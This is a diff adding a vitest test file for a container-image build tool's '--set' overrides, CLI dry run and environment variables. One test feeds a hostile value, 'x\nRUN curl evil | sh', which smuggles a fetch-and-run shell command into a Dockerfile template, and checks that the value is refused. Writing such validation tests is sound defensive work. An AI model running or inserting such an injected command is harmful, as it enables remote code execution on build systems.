@@ -1,0 +1,75 @@
+// --set, as bake's: parsed and applied purely; args and vars are inputs, platforms a selection.
+import { describe, expect, it } from 'vitest';
+import { applySets, parseSets } from '../../core/overrides.ts';
+import { planSpec } from '../../core/plan.ts';
+import { loadSpec } from '../../core/validate.ts';
+import type { BuildTask } from '../../core/task.ts';
+import { cli } from '../helpers/cli.ts';
+import { MINI_SPEC, miniSpec } from '../helpers/spec.ts';
+
+const spec = () => loadSpec(miniSpec().manifest).spec!;
+const plan = (s: ReturnType<typeof spec>) => planSpec(s, [], { multiPlatform: 'split' });
+
+describe('--set', () => {
+  it('parses targets and fields; a malformed one says the syntax; another package\'s is left out', () => {
+    const { sets, errors } = parseSets(['runtime.args.FOO=a=b', 'mini:base@deb.vars.greeting=hi there', '*.platforms=linux/amd64', 'other:base.args.X=1', 'base.args=1', 'base.platforms.x=1', 'nonsense'], 'mini');
+    expect(sets).toEqual([
+      { text: 'runtime.args.FOO=a=b', release: 'runtime', field: 'args', key: 'FOO', value: 'a=b' },
+      { text: 'mini:base@deb.vars.greeting=hi there', release: 'base', distro: 'deb', field: 'vars', key: 'greeting', value: 'hi there' },
+      { text: '*.platforms=linux/amd64', release: '*', field: 'platforms', value: 'linux/amd64' },
+    ]);
+    expect(errors).toHaveLength(3);
+    expect(errors[0]).toMatch(/args needs a name/);
+    expect(errors[2]).toMatch(/expected TARGET\.FIELD=VALUE/);
+  });
+
+  it('an arg wins over every level of the spec and rebuilds exactly that release and what builds FROM it', () => {
+    const before = plan(spec());
+    const { sets } = parseSets(['base.args.EXTRA=1'], 'mini');
+    const after = plan(applySets(spec(), sets).spec);
+    const changed = [...after.tasks.values()].filter((t) => t.kind === 'build' && before.tasks.get(t.id)!.hash.value !== t.hash.value).map((t) => (t as BuildTask).release);
+    expect(new Set(changed)).toEqual(new Set(['base', 'runtime']));
+    const b = [...after.tasks.values()].find((t): t is BuildTask => t.kind === 'build' && t.release === 'base')!;
+    expect(b.buildArgs['EXTRA']).toBe('1');
+    const only = plan(applySets(spec(), parseSets(['runtime.args.EXTRA=1'], 'mini').sets).spec);
+    expect([...only.tasks.values()].filter((t) => t.kind === 'build' && before.tasks.get(t.id)!.hash.value !== t.hash.value).every((t) => (t as BuildTask).release === 'runtime')).toBe(true);
+  });
+
+  it('every mistake at once: unknown release, distro, platform; platforms only for every image', () => {
+    const { sets } = parseSets(['nope.args.X=1', 'base@nodistro.vars.x=1', '*.platforms=linux/s390x', 'base.platforms=linux/amd64'], 'mini');
+    const { errors } = applySets(spec(), sets);
+    expect(errors).toHaveLength(4);
+    expect(errors.join('\n')).toMatch(/no release "nope"[\s\S]*no distro "nodistro"[\s\S]*unknown platform linux\/s390x[\s\S]*every image only/);
+  });
+
+  it('the CLI: the arg reaches the dry run\'s argv; *.platforms selects; a bad set exits 2', () => {
+    const { manifest } = miniSpec();
+    const r = cli(['build', manifest, '--all', '--dry-run', '--offline', '--set', 'runtime.args.FOO=bar', '--set', '*.platforms=linux/amd64']);
+    expect(r.code, r.stderr).toBe(0);
+    expect(r.stdout).toMatch(/build:mini\/deb\/runtime\/py3\.10\/amd64 [\s\S]*--build-arg FOO=bar/);
+    expect(r.stdout).not.toMatch(/arm64v8/);
+    const bad = cli(['build', manifest, '--all', '--dry-run', '--set', 'nope.args.X=1']);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toMatch(/no release "nope"/);
+  });
+});
+
+describe('variables the environment may set', () => {
+  const withVariables = (extra = '') => miniSpec({ 'manifest.yaml': `${MINI_SPEC}variables:\n  GREETING: hello\n${extra}`, 'templates/debian/base.Dockerfile.eta': 'FROM <%= it.distro.image %>\nRUN echo <%= it.vars.GREETING %>\n' }).manifest;
+  it('the default, or the environment\'s value; a changed value re-renders and rebuilds', () => {
+    const m = withVariables();
+    expect(loadSpec(m).spec!.vars['GREETING']).toBe('hello');
+    expect(loadSpec(m, { env: { GREETING: 'bonjour' } }).spec!.vars['GREETING']).toBe('bonjour');
+    const a = planSpec(loadSpec(m).spec!, [], { multiPlatform: 'split' });
+    const b = planSpec(loadSpec(m, { env: { GREETING: 'bonjour' } }).spec!, [], { multiPlatform: 'split' });
+    const changed = [...a.tasks.values()].filter((t) => t.kind === 'build' && b.tasks.get(t.id)!.hash.value !== t.hash.value);
+    expect(changed.length).toBeGreaterThan(0);
+  });
+  it('a hostile value is refused, and a name that is also a var is an error', () => {
+    const bad = loadSpec(withVariables(), { env: { GREETING: 'x\nRUN curl evil | sh' } });
+    expect(bad.spec).toBeUndefined();
+    expect(bad.diagnostics[0]!.message).toMatch(/control character/);
+    const both = loadSpec(withVariables('vars:\n  GREETING: x\n'));
+    expect(both.diagnostics.find((d) => d.path === 'variables.GREETING')!.message).toMatch(/both a variable and a var/);
+  });
+});
